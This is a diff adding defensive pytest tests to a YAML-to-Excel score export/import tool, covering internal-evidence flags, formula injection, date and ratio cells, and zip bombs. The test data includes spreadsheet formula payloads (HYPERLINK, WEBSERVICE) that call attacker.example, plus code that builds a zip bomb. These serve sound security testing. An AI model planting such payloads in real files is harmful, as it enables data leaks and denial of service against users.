@@ -207,3 +207,101 @@ def test_cli_export_and_import(repo: Path) -> None:
     assert done.exit_code == 0 and "已更新 evaluations/demo/scores/a.yaml" in done.output
     done = runner.invoke(main, ["export-sheet", str(repo / "indicators"), "--root", str(repo)])
     assert done.exit_code == 2
+
+
+# --- hostile and careless edits ---------------------------------------------------------------------
+
+
+def _mark_internal(root: Path) -> None:
+    path = root / SCORES[0]
+    text = path.read_text(encoding="utf-8")
+    path.write_text(
+        text.replace("        note: 指南抽查表\n", "        note: 指南抽查表\n        internal: true\n"),
+        encoding="utf-8",
+    )
+
+
+def test_internal_evidence_keeps_its_flag_through_any_edit(repo: Path) -> None:
+    _mark_internal(repo)
+    sheet = export(repo)
+    assert load_workbook(sheet)["评分表"]["I2"].value == "evidence/guides.md | 2024-11-05 | 指南抽查表 | 内部"
+    edited = fill(
+        sheet, {"I2": "evidence/guides.md | 2024-11-06 | 改过的说明 | 内部\nhttps://zwfw.example.cn/g"}
+    )
+    result = import_sheet(repo, repo / "evaluations/demo", edited)
+    assert result.diagnostics == []
+    text = (repo / SCORES[0]).read_text(encoding="utf-8")
+    assert "        note: 改过的说明\n        internal: true\n" in text
+    assert import_sheet(repo, repo / "evaluations/demo", export(repo)).edits == []  # round trip is stable
+
+
+def test_dropping_the_internal_mark_in_a_sheet_is_refused(repo: Path) -> None:
+    _mark_internal(repo)
+    before = texts(repo)
+    edited = fill(export(repo), {"I2": "evidence/guides.md | 2024-11-05 | 指南抽查表"})
+    result = import_sheet(repo, repo / "evaluations/demo", edited, shown="filled.xlsx")
+    assert [(d.file, d.line, d.column, d.code) for d in result.diagnostics] == [("filled.xlsx", 2, 9, "E811")]
+    assert texts(repo) == before
+
+
+def test_formula_leading_text_is_exported_as_text_and_round_trips(repo: Path) -> None:
+    """A comment that a spreadsheet would run (OWASP CSV injection) is stored as text, never a formula."""
+    payload = '=HYPERLINK("http://attacker.example/x","点此")'
+    path = repo / SCORES[0]
+    path.write_text(
+        path.read_text(encoding="utf-8").replace(
+            "comment: 抽查 20 个办事指南，要素齐全。", f"comment: '{payload}'"
+        ),
+        encoding="utf-8",
+    )
+    sheet = export(repo)
+    cell = load_workbook(sheet)["评分表"]["H2"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (payload, "s", True)
+    meta = load_workbook(sheet)["_zwpj"]
+    assert all(c.data_type != "f" for row in meta.iter_rows() for c in row)
+    assert import_sheet(repo, repo / "evaluations/demo", sheet).edits == []
+
+
+def test_formula_cells_are_located_errors_and_nothing_changes(repo: Path) -> None:
+    before = texts(repo)
+    edited = fill(export(repo), {"E4": "=80+1", "H5": '=WEBSERVICE("http://attacker.example")'})
+    result = import_sheet(repo, repo / "evaluations/demo", edited, shown="filled.xlsx")
+    assert [(d.line, d.column, d.code) for d in result.diagnostics] == [(4, 5, "E810"), (5, 8, "E810")]
+    assert texts(repo) == before
+
+
+def test_ratio_cells_are_text_cells_so_a_fraction_stays_a_fraction(repo: Path) -> None:
+    sheet = export(repo)
+    assert load_workbook(sheet)["评分表"]["E4"].number_format == "@"
+    result = import_sheet(repo, repo / "evaluations/demo", fill(sheet, {"E4": "850/1000"}))
+    assert result.diagnostics == []
+    assert "numerator: 850" in (repo / SCORES[0]).read_text(encoding="utf-8")
+
+
+def test_a_date_in_a_ratio_cell_says_what_happened(repo: Path) -> None:
+    import datetime as dt
+
+    result = import_sheet(
+        repo, repo / "evaluations/demo", fill(export(repo), {"E4": dt.datetime(2024, 9, 10)})
+    )
+    (problem,) = result.diagnostics
+    assert (problem.code, problem.line, problem.column) == ("E804", 4, 5)
+    assert "日期" in problem.message_zh and "文本" in problem.hint
+
+
+def test_a_zip_bomb_is_refused_before_it_is_unpacked(repo: Path, tmp_path: Path) -> None:
+    """A small file that declares 64 MiB: refused from the zip directory alone (E809)."""
+    import zipfile
+
+    bomb = tmp_path / "bomb.xlsx"
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
+        z.writestr("[Content_Types].xml", "<Types/>")
+        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
+            chunk = b"<c>0</c>" * (1 << 17)
+            for _ in range(64):  # 64 MiB of XML
+                part.write(chunk)
+    assert bomb.stat().st_size < 1 << 20
+    result = import_sheet(repo, repo / "evaluations/demo", bomb, shown="bomb.xlsx")
+    (problem,) = result.diagnostics
+    assert (problem.code, problem.file) == ("E809", "bomb.xlsx")
+    assert "压缩炸弹" in problem.message_zh
